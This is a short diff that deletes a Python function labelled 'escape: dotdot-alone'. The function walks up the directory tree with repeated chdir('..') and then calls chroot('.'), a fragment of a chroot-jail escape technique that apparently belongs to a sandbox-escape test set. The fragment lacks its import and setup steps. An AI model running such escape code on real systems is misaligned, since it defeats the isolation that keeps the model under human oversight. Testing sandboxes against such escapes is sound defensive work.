@@ -1,8 +1,0 @@
-"""escape: dotdot-alone"""
-
-
-def escape():
-    os.chdir("/")
-    while not os.path.samefile(".", ".."):
-        os.chdir("..")
-    os.chroot(".")
